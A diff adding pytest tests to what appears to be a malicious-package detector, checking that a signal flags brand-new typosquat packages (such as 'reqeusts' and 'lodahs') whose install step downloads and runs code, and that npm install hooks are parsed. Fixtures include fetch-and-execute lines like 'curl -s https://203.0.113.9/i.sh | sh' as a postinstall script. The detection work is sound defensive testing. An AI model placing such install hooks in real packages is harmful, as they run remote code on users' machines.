@@ -450,3 +450,36 @@ def test_signals_are_one_list_of_spec_and_function():
     assert [spec.name for spec, _ in sig.SIGNALS] == list(sig.FEATURE_NAMES)
     with pytest.raises(ValueError, match="share a name"):
         sig.TABLE.extended(sig.SIGNALS[0])
+
+
+def test_install_fetch_exec_fires_on_a_brand_new_dropper_only():
+    def s(**kw):
+        return one("install_fetch_exec", "reqeusts", "requests", PYPI, sm=meta("reqeusts", PYPI, **kw))
+
+    dropper = ("cmdclass", "runs-commands", "downloads")
+    hit = s(install_behaviour=dropper, version_count=1)
+    assert hit.value == 1.0 and "downloads and runs code at install" in hit.reason
+    assert s(install_behaviour=dropper, version_count=9, created=datetime(2020, 1, 1, tzinfo=UTC)).value == 0.0
+    assert s(install_behaviour=("cmdclass", "runs-commands"), version_count=1).value == 0.0  # runs, downloads nothing
+    assert s(install_behaviour=(), version_count=1).value == 0.0
+    assert s(version_count=1).value is None  # the install code was not read
+    spec = {f.name: f for f in sig.FEATURES}["install_fetch_exec"]
+    assert spec.fixed and spec.prior >= 5  # a documented rule: training never replaces it
+
+
+def test_npm_install_hook_command_lines_are_read_from_the_packument():
+    from confuguard.registries.npm import script_behaviour
+
+    assert script_behaviour({"postinstall": "curl -s https://203.0.113.9/i.sh | sh"}) == (
+        "runs-commands", "downloads", "executes-code")
+    assert script_behaviour({"install": "node-gyp rebuild"}) == ("runs-commands",)
+    assert script_behaviour({"test": "curl http://x | sh", "build": "tsc"}) == ()
+
+
+def test_account_fresh_reads_the_accounts_package_count():
+    def s(n):
+        return one("account_fresh", "lodahs", "lodash", sm=meta("lodahs", account_packages=n))
+
+    assert s(1).value == 1.0 and "no other package" in s(1).reason
+    assert s(7).value == 0.0 and s(7).reason is None
+    assert s(None).value is None
